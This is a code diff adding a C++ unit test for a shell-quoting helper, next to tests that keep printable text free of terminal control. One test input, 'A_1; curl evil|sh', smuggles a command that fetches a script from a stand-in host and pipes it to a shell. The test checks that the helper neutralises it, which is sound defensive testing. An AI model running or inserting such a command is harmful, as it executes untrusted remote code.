@@ -18,6 +18,13 @@ TEST_CASE("nothing in a printable text is obeyed by a terminal", "[base]") {
 
 TEST_CASE("a printable line is one line", "[base]") { CHECK(printable_line("a\nb\u2028c\td") == "a\\nb\\u2028c\td"); }
 
+TEST_CASE("a word of a shell's command is in quotes where a shell would expand it", "[base]") {
+    CHECK(shell_word("/data/a-b_1.sqlite") == "/data/a-b_1.sqlite");
+    CHECK(shell_word("A_1; curl evil|sh") == "'A_1; curl evil|sh'");
+    CHECK(shell_word("it's $HOME") == R"('it'\''s $HOME')");
+    CHECK(shell_word("") == "''");
+}
+
 TEST_CASE("a printable stream passes characters on whole, however they arrive", "[base]") {
     std::ostringstream out;
     PrintableStream stream(out);
